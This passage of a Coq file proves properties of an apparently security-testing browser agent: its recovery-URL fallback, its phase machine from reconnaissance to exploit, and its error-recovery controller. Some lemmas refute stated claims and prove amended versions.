  rewrite !List.length_app. simpl List.length.
  replace (List.length (List.rev r) + 1 + 1 - 2)%nat with (List.length (List.rev r)) by lia.
  split; [| apply Nat.ltb_lt; lia].
  rewrite <- List.app_assoc. rewrite List.nth_error_app2 by lia.
  rewrite Nat.sub_diag. reflexivity.
Qed.

(** C8.  On a reachable tracker [get_recovery_url] returns the stable
    pointer when it is set; when it is unset it returns the URL before the
    newest one if the history has two entries or more, the only URL if it
    has one, and nothing if it is empty.  The history is read newest
    first, and both history lists have the same length. *)
Theorem recovery_url_fallback_chain (s : t) :
  reachable s ->
  List.length s.(url_history) = List.length s.(state_history) /\
  match s.(last_stable_url) with
  | Some u => get_recovery_url s = Some u
  | None =>
      match List.rev s.(url_history) with
      | _newest :: previous :: _ => get_recovery_url s = Some previous
      | [only] => get_recovery_url s = Some only
      | [] => get_recovery_url s = None
      end
  end.
Proof.
  intros Hr. destruct (reachable_wellformed Hr) as [Hu He Hp].
  split; [rewrite Hu; apply List.length_map|].
  unfold get_recovery_url.
  destruct s.(last_stable_url) as [u|] eqn:Hl; simpl.
  - rewrite Hp. reflexivity.
  - rewrite find_none_of_Forall
      by (apply List.Forall_rev, Forall_removelast, Hp).
    destruct (List.rev s.(url_history)) as [|a [|b r]] eqn:Hrev.
    + apply (f_equal (@List.rev string)) in Hrev.
      rewrite List.rev_involutive in Hrev. rewrite Hrev. reflexivity.
    + apply (f_equal (@List.rev string)) in Hrev.
      rewrite List.rev_involutive in Hrev. rewrite Hrev. reflexivity.
    + destruct (nth_error_second_to_last _ Hrev) as [Hn Hlt].
      rewrite Hlt. exact Hn.
Qed.

Lemma recovery_url_fallback_chain_witness :
  get_recovery_url
    (run_ops [Call (MarkError "http://a" "boom" 1);
              Call (RecordUrl "http://b" false "B" 2);
              Call (MarkError "http://c" "boom" 3)] (init 10 true))
  = Some "http://b".
Proof.
  assert (Hr : reachable
            (run_ops [Call (MarkError "http://a" "boom" 1);
                      Call (RecordUrl "http://b" false "B" 2);
                      Call (MarkError "http://c" "boom" 3)] (init 10 true))).
  { exists 10, true,
      [Call (MarkError "http://a" "boom" 1);
       Call (RecordUrl "http://b" false "B" 2);
       Call (MarkError "http://c" "boom" 3)]. reflexivity. }
  exact (proj2 (recovery_url_fallback_chain Hr)).
Defined.

End TrackerFacts.

(** ** Facts about the phase machine *)

Section PhaseFacts.

Import TestFramework.

(** What one command adds to the progress of the reconnaissance phase. *)
Definition recon_gain (cmd_type cmd_content : string) : Z :=
  (if (is_verb "THINK" cmd_type
       && (PyStr.contains "验证码" cmd_content
           || PyStr.contains "captcha" (PyStr.lower cmd_content)))%bool
   then 10 else 0)
  + (if (is_verb "THINK" cmd_type
         && (PyStr.contains "csrf" (PyStr.lower cmd_content)
             || PyStr.contains "令牌" cmd_content
             || PyStr.contains "token" (PyStr.lower cmd_content)))%bool
     then 10 else 0)
  + (if is_verb "TYPE" cmd_type then 5 else 0)
  + (if (is_verb "GOTO" cmd_type || is_verb "CLICK" cmd_type)%bool then 3 else 0)
  + (if is_verb "SCREENSHOT" cmd_type then 2 else 0).

Definition n_mechanisms (s : t) : Z := Z.of_nat (List.length s.(security_mechanisms)).
Definition n_input_points (s : t) : Z := Z.of_nat (List.length s.(input_points)).

(** The command split the way [process_command] splits it. *)
Definition verb_of (command : string) : string := fst (PyStr.split_space_once command).
Definition content_of (command : string) : string :=
  match snd (PyStr.split_space_once command) with
  | Some c => c
  | None => EmptyString
  end.

Ltac case_ifs :=
  repeat match goal with
         | |- context [if ?b then _ else _] => destruct b eqn:?
         end.

Lemma add_mechanism_fields ty d now s :
  let s' := _add_security_mechanism ty d now s in
  s'.(current_phase) = s.(current_phase) /\
  s'.(phase_progress) = s.(phase_progress) /\
  s'.(input_points) = s.(input_points) /\
  n_mechanisms s <= n_mechanisms s'.
Proof.
  unfold _add_security_mechanism, n_mechanisms. cbv zeta.
  destruct (List.existsb _ _); simpl; repeat split; try lia.
  rewrite List.length_app. simpl. lia.
Qed.

Lemma add_input_point_fields sel ctx now s :
  let s' := _add_input_point sel ctx now s in
  s'.(current_phase) = s.(current_phase) /\
  s'.(phase_progress) = s.(phase_progress) /\
  s'.(security_mechanisms) = s.(security_mechanisms) /\
  n_input_points s <= n_input_points s'.
Proof.
  unfold _add_input_point, n_input_points. cbv zeta.
  destruct (List.existsb _ _); simpl; repeat split; try lia.
  rewrite List.length_app. simpl. lia.
Qed.

(** The reconnaissance update keeps the phase, adds the gain of the
    command, and loses no mechanism and no input point. *)
Lemma update_recon_fields ty c now s :
  let s' := update_recon ty c now s in
  s'.(current_phase) = s.(current_phase) /\
  s'.(phase_progress) = s.(phase_progress) + recon_gain ty c /\
  n_mechanisms s <= n_mechanisms s' /\
  n_input_points s <= n_input_points s'.
Proof.
  cbv zeta. unfold update_recon, recon_gain, when.
  set (b1 := (is_verb "THINK" ty
              && (PyStr.contains "验证码" c
                  || PyStr.contains "captcha" (PyStr.lower c)))%bool).
  set (b2 := (is_verb "THINK" ty
              && (PyStr.contains "csrf" (PyStr.lower c)
                  || PyStr.contains "令牌" c
                  || PyStr.contains "token" (PyStr.lower c)))%bool).
  set (b3 := is_verb "TYPE" ty).
  set (b4 := (is_verb "GOTO" ty || is_verb "CLICK" ty)%bool).
  set (b5 := is_verb "SCREENSHOT" ty).
  clearbody b1 b2 b3 b4 b5.
  set (s1 := if b1 then _ else s).
  assert (H1 : s1.(current_phase) = s.(current_phase) /\
               s1.(phase_progress) = s.(phase_progress) + (if b1 then 10 else 0) /\
               n_mechanisms s <= n_mechanisms s1 /\
               n_input_points s <= n_input_points s1).
  { subst s1. destruct b1; [|repeat split; lia].
    destruct (add_mechanism_fields "captcha" "验证码保护" now s) as (A & B & C & D).
    unfold add_progress, set_progress, n_input_points, n_mechanisms in *; simpl.
    rewrite A, B, C. repeat split; lia. }
  clearbody s1.
  set (s2 := if b2 then _ else s1).
  assert (H2 : s2.(current_phase) = s1.(current_phase) /\
               s2.(phase_progress) = s1.(phase_progress) + (if b2 then 10 else 0) /\
               n_mechanisms s1 <= n_mechanisms s2 /\
               n_input_points s1 <= n_input_points s2).
  { subst s2. destruct b2; [|repeat split; lia].
    destruct (add_mechanism_fields "csrf" "CSRF令牌保护" now s1) as (A & B & C & D).
    unfold add_progress, set_progress, n_input_points, n_mechanisms in *; simpl.
    rewrite A, B, C. repeat split; lia. }
  clearbody s2.
  set (s3 := if b3 then _ else s2).
  assert (H3 : s3.(current_phase) = s2.(current_phase) /\
               s3.(phase_progress) = s2.(phase_progress) + (if b3 then 5 else 0) /\
               n_mechanisms s2 <= n_mechanisms s3 /\
               n_input_points s2 <= n_input_points s3).
  { subst s3. destruct b3; [|repeat split; lia].
    destruct (add_input_point_fields (fst (PyStr.split_space_once c)) c now s2)
      as (A & B & C & D).
    unfold add_progress, set_progress, n_input_points, n_mechanisms in *; simpl.
    rewrite A, B, C. repeat split; lia. }
  clearbody s3.
  destruct H1 as (A1 & B1 & C1 & D1), H2 as (A2 & B2 & C2 & D2),
           H3 as (A3 & B3 & C3 & D3).
  destruct b4, b5; unfold add_progress, set_progress, n_mechanisms, n_input_points in *;
    simpl; repeat split; try congruence; lia.
Qed.

(** The part of the state the transitions depend on. *)
Definition core (s : t) : Z * Z * Z * Z :=
  (s.(current_phase), s.(phase_progress), n_mechanisms s, n_input_points s).

(** An update that changes the progress at most, and never lowers it. *)
Definition progress_only (s s' : t) : Prop :=
  s'.(current_phase) = s.(current_phase) /\
  s.(phase_progress) <= s'.(phase_progress) /\
  s'.(security_mechanisms) = s.(security_mechanisms) /\
  s'.(input_points) = s.(input_points).

Lemma progress_only_refl s : progress_only s s.
Proof. repeat split; lia. Qed.

Lemma progress_only_trans s1 s2 s3 :
  progress_only s1 s2 -> progress_only s2 s3 -> progress_only s1 s3.
Proof.
  intros (A & B & C & D) (A' & B' & C' & D').
  repeat split; try congruence; lia.
Qed.

Lemma progress_only_discovery d descr now s :
  0 <= d -> progress_only s (_add_discovery descr now (add_progress d s)).
Proof. intros Hd. repeat split; simpl; lia. Qed.

Lemma plan_discoveries_progress_only terms lowered now s :
  progress_only s (plan_discoveries terms lowered now s).
Proof.
  revert s. induction terms as [|term rest IH]; intros s; simpl.
  - apply progress_only_refl.
  - eapply progress_only_trans; [|apply IH].
    unfold when. destruct (PyStr.contains term lowered).
    + repeat split; simpl; lia.
    + apply progress_only_refl.
Qed.

Lemma update_baseline_progress_only ty c now s :
  progress_only s (update_baseline ty c now s).
Proof.
  unfold update_baseline, when.
  case_ifs; repeat split; simpl; lia.
Qed.

Lemma update_planning_progress_only ty c now s :
  progress_only s (update_planning ty c now s).
Proof.
  unfold update_planning, when.
  destruct (_ && _)%bool; [|apply progress_only_refl].
  eapply progress_only_trans; [|apply plan_discoveries_progress_only].
  repeat split; simpl; lia.
Qed.

Lemma update_exploit_progress_only ty c now s :
  progress_only s (update_exploit ty c now s).
Proof.
  unfold update_exploit, when.
  case_ifs; repeat split; simpl; lia.
Qed.

(** The steps of [process_command] around the update leave the core as it
    is. *)
Lemma check_phase_intro_core s : core (snd (_check_phase_intro s)) = core s.
Proof. unfold _check_phase_intro. destruct (negb _); reflexivity. Qed.

Lemma should_send_guidance_core now s :
  core (snd (_should_send_guidance now s)) = core s.
Proof. unfold _should_send_guidance. case_ifs; reflexivity. Qed.

Lemma process_command_core command now s :
  core (snd (process_command command now s)) =
  if PyStr.truthy command
  then core (_update_state_from_command (verb_of command) (content_of command)
                                        now (bump_counter s))
  else core s.
Proof.
  unfold process_command, verb_of, content_of.
  destruct (PyStr.truthy command); simpl; [|reflexivity].
  destruct (PyStr.split_space_once command) as [ty rest]. simpl.
  set (s2 := _update_state_from_command _ _ _ _).
  rewrite <- (check_phase_intro_core s2).
  destruct (_check_phase_intro s2) as [intro s3]. simpl.
  destruct (nonempty intro); [reflexivity|].
  rewrite <- (should_send_guidance_core now s3).
  destruct (_should_send_guidance now s3) as [send s4]. simpl.
  destruct send; reflexivity.
Qed.

(** The transition check in the reconnaissance phase. *)
Lemma check_transition_recon s :
  s.(current_phase) = PHASE_RECON ->
  core (_check_phase_transition s) =
  if ((s.(phase_progress) >=? 80) && (n_mechanisms s >=? 1)
      && (n_input_points s >=? 2))%bool
  then (PHASE_BASELINE, 0, n_mechanisms s, n_input_points s)
  else core s.
Proof.
  intros Hp. unfold _check_phase_transition, core, n_mechanisms, n_input_points.
  rewrite Hp. change (PHASE_RECON =? PHASE_RECON) with true.
  change (PHASE_RECON =? PHASE_BASELINE) with false.
  change (PHASE_RECON =? PHASE_PLANNING) with false. simpl andb.
  destruct (phase_progress s >=? 80); simpl; [|rewrite Hp; reflexivity].
  destruct (_ >=? 1); simpl; [|rewrite Hp; reflexivity].
  destruct (_ >=? 2); simpl; [reflexivity | rewrite Hp; reflexivity].
Qed.

(** Outside the reconnaissance phase the check moves one phase up or
    stays, and touches neither list. *)
Lemma check_transition_steps s :
  let s' := _check_phase_transition s in
  s.(current_phase) <= s'.(current_phase) <= s.(current_phase) + 1 /\
  s'.(security_mechanisms) = s.(security_mechanisms) /\
  s'.(input_points) = s.(input_points) /\
  (s'.(phase_progress) = s.(phase_progress) \/ s'.(phase_progress) = 0).
Proof.
  cbv zeta. unfold _check_phase_transition, PHASE_RECON, PHASE_BASELINE,
    PHASE_PLANNING, PHASE_EXPLOIT.
  case_ifs; simpl;
    repeat match goal with
           | H : (_ && _)%bool = true |- _ => apply andb_true_iff in H; destruct H
           end;
    repeat match goal with
           | H : (_ =? _) = true |- _ => apply Z.eqb_eq in H
           end;
    repeat split; auto; lia.
Qed.

Lemma recon_gain_nonneg ty c : 0 <= recon_gain ty c.
Proof. unfold recon_gain. case_ifs; lia. Qed.

(** One update in the reconnaissance phase: the progress grows by the gain
    of the command and saturates at 100; the phase becomes the baseline
    phase, with progress 0, exactly when the three thresholds hold. *)
Lemma update_state_recon ty c now s :
  s.(current_phase) = PHASE_RECON ->
  core (_update_state_from_command ty c now s) =
  let s1 := update_recon ty c now s in
  let p := Z.min 100 (s.(phase_progress) + recon_gain ty c) in
  if ((p >=? 80) && (n_mechanisms s1 >=? 1) && (n_input_points s1 >=? 2))%bool
  then (PHASE_BASELINE, 0, n_mechanisms s1, n_input_points s1)
  else (PHASE_RECON, p, n_mechanisms s1, n_input_points s1).
Proof.
  intros Hp. unfold _update_state_from_command. rewrite Hp.
  change (PHASE_RECON =? PHASE_RECON) with true. cbv iota zeta.
  destruct (update_recon_fields ty c now s) as (A & B & _ & _).
  rewrite check_transition_recon by (simpl; congruence).
  unfold core, n_mechanisms, n_input_points. simpl.
  rewrite B, A, Hp. reflexivity.
Qed.

(** One update in a later phase keeps both lists. *)
Lemma update_state_later ty c now s :
  s.(current_phase) <> PHASE_RECON ->
  let s' := _update_state_from_command ty c now s in
  s.(current_phase) <= s'.(current_phase) <= s.(current_phase) + 1 /\
  s'.(security_mechanisms) = s.(security_mechanisms) /\
  s'.(input_points) = s.(input_points) /\
  (0 <= s.(phase_progress) -> 0 <= s'.(phase_progress) <= 100).
Proof.
  intros Hp. cbv zeta. unfold _update_state_from_command.
  destruct (current_phase s =? PHASE_RECON) eqn:E;
    [apply Z.eqb_eq in E; contradiction|].
  set (s1 := if current_phase s =? PHASE_BASELINE then _ else _).
  assert (H1 : progress_only s s1).
  { subst s1. case_ifs.
    - apply update_baseline_progress_only.
    - apply update_planning_progress_only.
    - apply update_exploit_progress_only.
    - apply progress_only_refl. }
  clearbody s1. destruct H1 as (A & B & C & D).
  destruct (check_transition_steps (set_progress (Z.min 100 s1.(phase_progress)) s1))
    as (P & Q & R & T).
  simpl in P, Q, R, T. rewrite Q, R, C, D. rewrite A in P.
  repeat split; auto; lia.
Qed.

(** Whatever the phase, one command moves the phase up by one at most and
    loses neither a mechanism nor an input point. *)
Lemma process_command_monotone command now s :
  let s' := snd (process_command command now s) in
  s.(current_phase) <= s'.(current_phase) <= s.(current_phase) + 1 /\
  n_mechanisms s <= n_mechanisms s' /\
  n_input_points s <= n_input_points s'.
Proof.
  cbv zeta. pose proof (process_command_core command now s) as Hc.
  destruct (PyStr.truthy command).
  2:{ unfold core in Hc. injection Hc as -> _ -> ->. lia. }
  set (s' := snd _) in *. set (u := _update_state_from_command _ _ _ _) in *.
  unfold core in Hc. injection Hc as Hph _ Hnm Hni. rewrite Hph, Hnm, Hni.
  clear Hph Hnm Hni s'. subst u.
  destruct (Z.eq_dec s.(current_phase) PHASE_RECON) as [Hr | Hr].
  - pose proof (@update_state_recon (verb_of command) (content_of command) now
                  (bump_counter s) Hr) as Hu.
    destruct (update_recon_fields (verb_of command) (content_of command) now
                (bump_counter s)) as (_ & _ & Hm & Hi).
    cbv zeta in Hu. unfold core in Hu.
    change (n_mechanisms (bump_counter s)) with (n_mechanisms s) in Hm.
    change (n_input_points (bump_counter s)) with (n_input_points s) in Hi.
    destruct (_ && _)%bool; injection Hu as -> _ -> ->; rewrite Hr;
      unfold PHASE_RECON, PHASE_BASELINE; lia.
  - destruct (@update_state_later (verb_of command) (content_of command) now
                (bump_counter s) Hr) as (P & Q & R & _).
    unfold n_mechanisms, n_input_points. rewrite Q, R. simpl in *. lia.
Qed.

(** What holds after any batch run from the initial state. *)
Record phase_invariant (s : t) : Prop := {
  inv_progress : 0 <= s.(phase_progress) <= 100;
  inv_evidence :
    s.(current_phase) = PHASE_RECON \/ (1 <= n_mechanisms s /\ 2 <= n_input_points s)
}.

Lemma process_command_invariant command now s :
  phase_invariant s -> phase_invariant (snd (process_command command now s)).
Proof.
  intros [Hprog Hev].
  pose proof (process_command_core command now s) as Hc.
  destruct (PyStr.truthy command).
  2:{ unfold core in Hc. injection Hc as Hph Hpr Hnm Hni.
      split; [rewrite Hpr; exact Hprog | rewrite Hph, Hnm, Hni; exact Hev]. }
  set (s' := snd _) in *.
  destruct (Z.eq_dec s.(current_phase) PHASE_RECON) as [Hr | Hr].
  - rewrite (@update_state_recon _ _ now (bump_counter s) Hr) in Hc.
    cbv zeta in Hc. unfold core in Hc.
    pose proof (recon_gain_nonneg (verb_of command) (content_of command)) as Hg.
    change (phase_progress (bump_counter s)) with (phase_progress s) in Hc.
    destruct (_ && _)%bool eqn:Hcond; injection Hc as Hph Hpr Hnm Hni.
    + apply andb_true_iff in Hcond. destruct Hcond as [Hcond H2].
      apply andb_true_iff in Hcond. destruct Hcond as [_ H1].
      split; [rewrite Hpr; lia | right; rewrite Hnm, Hni; lia].
    + split; [rewrite Hpr; lia | left; exact Hph].
  - destruct (@update_state_later (verb_of command) (content_of command) now
                (bump_counter s) Hr) as (_ & Q & R & T).
    unfold core in Hc. injection Hc as Hph Hpr Hnm Hni.
    destruct Hev as [Hev | Hev]; [contradiction|].
    split.
    + rewrite Hpr. apply T. exact (proj1 Hprog).
    + right. rewrite Hnm, Hni. unfold n_mechanisms, n_input_points in *.
      rewrite Q, R. exact Hev.
Qed.

Lemma run_invariant cmds s : phase_invariant s -> phase_invariant (run cmds s).
Proof.
  revert s. induction cmds as [|c cmds IH]; intros s H; simpl; auto.
  apply IH, process_command_invariant, H.
Qed.

Lemma init_invariant : phase_invariant init.
Proof. split; simpl; [lia | left; reflexivity]. Qed.

(** A batch that reaches progress 80 with one input point and no security
    mechanism, then a command that records the second input point. *)
Definition batch_without_mechanism : list (string * Z) :=
  ("TYPE #user alice", 0) :: List.repeat ("GOTO http://target/", 0) 25.

(** C9, as the claim states it, fails: with one input point, progress 80
    and no recorded security mechanism, the command that records the second
    input point leaves the machine in the reconnaissance phase. *)
Lemma second_input_point_alone_no_transition :
  (run batch_without_mechanism init).(current_phase) = PHASE_RECON /\
  (run batch_without_mechanism init).(phase_progress) = 80 /\
  n_input_points (run batch_without_mechanism init) = 1 /\
  n_input_points
    (snd (process_command "TYPE #pass secret" 0 (run batch_without_mechanism init))) = 2 /\
  (snd (process_command "TYPE #pass secret" 0
          (run batch_without_mechanism init))).(current_phase) = PHASE_RECON.
Proof. vm_compute. repeat split; reflexivity. Qed.

(** C9, amended.  For every batch run from the initial state and every
    next command: the progress stays within 0..100; with fewer than two
    input points the machine is still in the reconnaissance phase; it
    leaves that phase only for the baseline phase, with progress reset to
    0, and only when the saturated progress is at least 80 and at least one
    security mechanism and two input points are recorded; provided the
    progress is at least 80 and a security mechanism is recorded, the
    command that records the second input point causes that transition;
    and a command moves the phase forward by one step at most, never
    backwards. *)
Theorem recon_to_baseline_thresholds (cmds : list (string * Z))
    (command : string) (now : Z) :
  let s := run cmds init in
  let s' := snd (process_command command now s) in
  0 <= s.(phase_progress) <= 100 /\
  (n_input_points s < 2 -> s.(current_phase) = PHASE_RECON) /\
  (s.(current_phase) = PHASE_RECON -> s'.(current_phase) <> PHASE_RECON ->
     s'.(current_phase) = PHASE_BASELINE /\ s'.(phase_progress) = 0 /\
     80 <= Z.min 100 (s.(phase_progress)
                      + recon_gain (verb_of command) (content_of command)) /\
     1 <= n_mechanisms s' /\ 2 <= n_input_points s') /\
  (80 <= s.(phase_progress) -> 1 <= n_mechanisms s ->
     n_input_points s < 2 -> 2 <= n_input_points s' ->
     s'.(current_phase) = PHASE_BASELINE /\ s'.(phase_progress) = 0) /\
  s.(current_phase) <= s'.(current_phase) <= s.(current_phase) + 1.
Proof.
  intros s s'.
  destruct (run_invariant cmds init_invariant) as [Hprog Hev]. fold s in Hprog, Hev.
  assert (Hrecon : n_input_points s < 2 -> s.(current_phase) = PHASE_RECON).
  { intros Hlt. destruct Hev as [H | [_ H]]; [exact H | lia]. }
  assert (Hstep : s.(current_phase) = PHASE_RECON ->
            PyStr.truthy command = true ->
            core s' =
            let s1 := update_recon (verb_of command) (content_of command) now
                                   (bump_counter s) in
            let p := Z.min 100 (s.(phase_progress)
                       + recon_gain (verb_of command) (content_of command)) in
            if ((p >=? 80) && (n_mechanisms s1 >=? 1) && (n_input_points s1 >=? 2))%bool
            then (PHASE_BASELINE, 0, n_mechanisms s1, n_input_points s1)
            else (PHASE_RECON, p, n_mechanisms s1, n_input_points s1)).
  { intros Hr Ht. subst s'. rewrite process_command_core, Ht.
    apply (@update_state_recon _ _ now (bump_counter s) Hr). }
  split; [exact Hprog|]. split; [exact Hrecon|]. split; [|split].
  - intros Hr Hleft.
    destruct (PyStr.truthy command) eqn:Ht.
    2:{ exfalso. apply Hleft. subst s'.
        pose proof (process_command_core command now s) as Hc. rewrite Ht in Hc.
        unfold core in Hc. injection Hc as Hph _ _ _. congruence. }
    specialize (Hstep Hr eq_refl). cbv zeta in Hstep. unfold core in Hstep.
    destruct (_ && _)%bool eqn:Hcond; injection Hstep as Hph Hpr Hnm Hni.
    + apply andb_true_iff in Hcond. destruct Hcond as [Hcond H2].
      apply andb_true_iff in Hcond. destruct Hcond as [H0 H1].
      rewrite Hnm, Hni. repeat split; auto; lia.
    + contradiction.
  - intros H80 Hm Hlt Hge.
    specialize (Hrecon Hlt).
    destruct (PyStr.truthy command) eqn:Ht.
    2:{ exfalso. subst s'.
        pose proof (process_command_core command now s) as Hc. rewrite Ht in Hc.
        unfold core in Hc. injection Hc as _ _ _ Hni. lia. }
    specialize (Hstep Hrecon eq_refl). cbv zeta in Hstep. unfold core in Hstep.
    pose proof (recon_gain_nonneg (verb_of command) (content_of command)) as Hg.
    destruct (update_recon_fields (verb_of command) (content_of command) now
                (bump_counter s)) as (_ & _ & Hm1 & _).
    change (n_mechanisms (bump_counter s)) with (n_mechanisms s) in Hm1.
    destruct (_ && _)%bool eqn:Hcond; injection Hstep as Hph Hpr Hnm Hni.
    + split; assumption.
    + exfalso. rewrite Hni in Hge.
      apply andb_false_iff in Hcond. destruct Hcond as [Hcond | Hcond];
        [apply andb_false_iff in Hcond; destruct Hcond as [Hcond | Hcond]|]; lia.
  - apply process_command_monotone.
Qed.

(** A batch with a recorded captcha, one input point and progress 81. *)
Definition batch_with_mechanism : list (string * Z) :=
  ("THINK 页面有验证码", 0) :: ("TYPE #user alice", 0)
  :: List.repeat ("GOTO http://target/", 0) 22.

Lemma recon_to_baseline_thresholds_witness :
  (snd (process_command "TYPE #pass secret" 0
          (run batch_with_mechanism init))).(current_phase) = PHASE_BASELINE /\
  (snd (process_command "TYPE #pass secret" 0
          (run batch_with_mechanism init))).(phase_progress) = 0.
Proof.
  destruct (recon_to_baseline_thresholds batch_with_mechanism "TYPE #pass secret" 0)
    as (_ & _ & _ & H & _).
  apply H; vm_compute; congruence.
Defined.

End PhaseFacts.

(** ** Facts about the page classifier *)

Section ClassifierFacts.

Variable W : Type.
Variable io : Session.ops W.







End ClassifierFacts.

(** ** Facts about the recovery controller *)

Section RecoveryFacts.

Variable W : Type.
Variable io : Session.ops W.

Definition option_list {A : Type} (o : option A) : list A :=
  match o with Some x => [x] | None => [] end.

Lemma app_same_nil {A : Type} (l extra : list A) :
  (l ++ extra)%list = l -> extra = [].
Proof.
  intros H. apply (f_equal (@List.length A)) in H.
  rewrite List.length_app in H. destruct extra; [reflexivity | simpl in H; lia].
Qed.

(** An attempt issues the prescribed navigations, tells whether one of
    them succeeded, logs its announcement and one notice per navigation,
    and leaves the tracker alone. *)
Lemma attempt_recovery_spec (log : list string) (a : Agent.t W) :
  let result := Agent.attempt_recovery io log a in
  let a' := snd result in
  a'.(Agent.calls) = (a.(Agent.calls) ++ Agent.prescribed_navigation io a)%list /\
  fst (fst result) = Agent.navigation_succeeds io a /\
  a'.(Agent.state_tracker) = a.(Agent.state_tracker) /\
  exists notices,
    snd (fst result) = (log ++ "严重错误或连续错误，正在自动恢复..." :: notices)%list /\
    List.length notices = List.length (Agent.prescribed_navigation io a).
Proof.
  cbv zeta.
  unfold Agent.attempt_recovery, Agent.prescribed_navigation,
    Agent.navigation_succeeds, Agent.issue.
  destruct (Agent.usable_recovery_url a) as [u|]; cbn [Agent.world].
  - destruct (Session.goto io u (Agent.world a)) as [[[]|e] w'];
      cbn [fst snd Agent.world Agent.calls Agent.state_tracker].
    + repeat split; try reflexivity.
      exists ["已自动恢复到稳定页面: " ++ u]. split; [|reflexivity].
      rewrite <- List.app_assoc. reflexivity.
    + destruct (Session.go_back io w') as [[[]|e'] w''];
        cbn [fst snd Agent.world Agent.calls Agent.state_tracker];
        rewrite <- !List.app_assoc; repeat split; try reflexivity;
        eexists [_; _]; split; reflexivity.
  - destruct (Session.go_back io (Agent.world a)) as [[[]|e'] w''];
      cbn [fst snd Agent.world Agent.calls Agent.state_tracker];
      repeat split; try reflexivity;
      eexists [_]; rewrite <- List.app_assoc; split; reflexivity.
Qed.

Lemma prescribed_navigation_nonempty (a : Agent.t W) :
  Agent.prescribed_navigation io a <> [].
Proof.
  unfold Agent.prescribed_navigation.
  destruct (Agent.usable_recovery_url a); [|discriminate].
  destruct (fst _); discriminate.
Qed.

(** C2, amended.  [_handle_error_with_recovery] marks the error, then
    navigates if and only if auto-recovery is enabled, the level reaches
    the threshold or the tracker asks for recovery, and the level is 3 or
    more or two errors or more came in a row.  The navigations are: to the
    recovery URL when there is one, then back in the history when that
    failed or there was none.  The result is [True] exactly when one of
    them succeeded.  When it is [False] the log ends with the manual
    suggestion when there is one to make: the recovery URL at level 2 or
    more, the hint of the tracker at level 1. *)
Theorem handle_error_recovery_policy (error_message : string) (error_level : Z)
    (log : list string) (a : Agent.t W) :
  let marked := Agent.mark_first io error_message a in
  let attempted := Agent.should_attempt error_level marked in
  let navigations := if attempted then Agent.prescribed_navigation io marked else [] in
  let result := Agent._handle_error_with_recovery io error_message error_level log a in
  let recovered := fst (fst result) in
  let log' := snd (fst result) in
  let a' := snd result in
  (a'.(Agent.calls) <> a.(Agent.calls) <-> attempted = true) /\
  a'.(Agent.calls) = (a.(Agent.calls) ++ navigations)%list /\
  recovered = (attempted && Agent.navigation_succeeds io marked)%bool /\
  a'.(Agent.state_tracker) = marked.(Agent.state_tracker) /\
  exists notices,
    log' = (log ++ ("检测到错误: " ++ error_message)%string :: notices
                ++ (if recovered then []
                    else option_list (Agent.manual_suggestion error_level a')))%list /\
    List.length notices =
      (if attempted then S (List.length navigations) else 0)%nat.
Proof.
  cbv zeta.
  assert (Hcalls : (Agent.mark_first io error_message a).(Agent.calls) = a.(Agent.calls)).
  { unfold Agent.mark_first. destruct (PyStr.truthy _); reflexivity. }
  set (marked := Agent.mark_first io error_message a) in *.
  unfold Agent._handle_error_with_recovery. fold marked.
  unfold Agent.should_attempt.
  set (guard1 := (Agent.auto_recovery marked && _)%bool).
  set (guard2 := ((error_level >=? 3) || _)%bool).
  set (log1 := (log ++ [("检测到错误: " ++ error_message)%string])%list).
  assert (Hno : forall (tail : list string),
            (log ++ ("检测到错误: " ++ error_message)%string :: [] ++ tail)%list
            = (log1 ++ tail)%list).
  { intros tail. subst log1. rewrite <- List.app_assoc. reflexivity. }
  destruct guard1, guard2; cbn [andb].
  2,3,4: rewrite <- Hcalls; cbn [fst snd]; unfold Agent.suggest_recovery;
    (split; [split; [intros H; exfalso; apply H; reflexivity | discriminate]|]);
    (split; [rewrite List.app_nil_r; reflexivity|]);
    (split; [reflexivity|]); (split; [reflexivity|]);
    exists []; (split; [|reflexivity]); rewrite Hno;
    destruct (Agent.manual_suggestion error_level marked);
    [reflexivity | rewrite List.app_nil_r; reflexivity].
  destruct (attempt_recovery_spec log1 marked) as (Hc & Hr & Ht & notices & Hl & Hn).
  destruct (Agent.attempt_recovery io log1 marked) as [[recovered log2] a2].
  cbn [fst snd] in Hc, Hr, Ht, Hl. rewrite <- Hr.
  assert (Hneq : a2.(Agent.calls) <> a.(Agent.calls)).
  { rewrite Hc, Hcalls. intros H. apply app_same_nil in H.
    exact (prescribed_navigation_nonempty marked H). }
  destruct recovered; cbn [fst snd].
  - split; [split; auto|]. split; [rewrite Hc, Hcalls; reflexivity|].
    split; [reflexivity|]. split; [exact Ht|].
    exists ("严重错误或连续错误，正在自动恢复..." :: notices).
    split; [|simpl; rewrite Hn; reflexivity].
    rewrite Hl. subst log1. rewrite <- List.app_assoc, List.app_nil_r. reflexivity.
  - split; [split; auto|]. split; [rewrite Hc, Hcalls; reflexivity|].
    split; [reflexivity|]. split; [exact Ht|].
    exists ("严重错误或连续错误，正在自动恢复..." :: notices).
    split; [|simpl; rewrite Hn; reflexivity].
    unfold Agent.suggest_recovery. rewrite Hl. subst log1.
    destruct (Agent.manual_suggestion error_level a2); cbn [option_list];
      rewrite <- !List.app_assoc; try rewrite List.app_nil_r; reflexivity.
Qed.

(** C2, as the claim states it, fails: a second level-1 error in a row
    starts an attempt, the navigation to the recovery URL and the one back
    in the history both raise, the result is [False], and no suggestion is
    logged: the log holds the error, the announcement and the two failure
    notices only, the stable pointer being unset. *)
Lemma both_navigations_fail_no_suggestion :
  fst (fst Scenarios.second_minor_error) = false /\
  (snd Scenarios.second_minor_error).(Agent.calls)
    = [Session.CallGoto "http://shop/cart"; Session.CallGoBack] /\
  Agent.manual_suggestion 1 (snd Scenarios.second_minor_error) = None /\
  snd (fst Scenarios.second_minor_error)
    = ["检测到错误: JavaScript错误: ReferenceError: cart is not defined";
       "严重错误或连续错误，正在自动恢复...";
       "自动恢复失败: net::ERR_CONNECTION_REFUSED";
       "使用后退按钮失败: Timeout 30000ms exceeded"].
Proof. vm_compute. repeat split; reflexivity. Qed.

End RecoveryFacts.

(** ** Facts about the classification after a command *)

Section ClassificationFacts.

Variable W : Type.
Variable io : Session.ops W.

Local Abbreviation batch := (Agent.batch W).
Local Abbreviation step := (Agent.step W).

(** The runs of the rule-based classifier recorded in the calls of an
    agent. *)
Definition runs_of (a : Agent.t W) : nat :=
  List.length (List.filter Agent.is_status_read a.(Agent.calls)).







(** A step that leaves the count of the runs as it is. *)
Definition quiet {A : Type} (m : step A) : Prop :=
  forall b, Agent.rule_runs (snd (m b)) = Agent.rule_runs b.





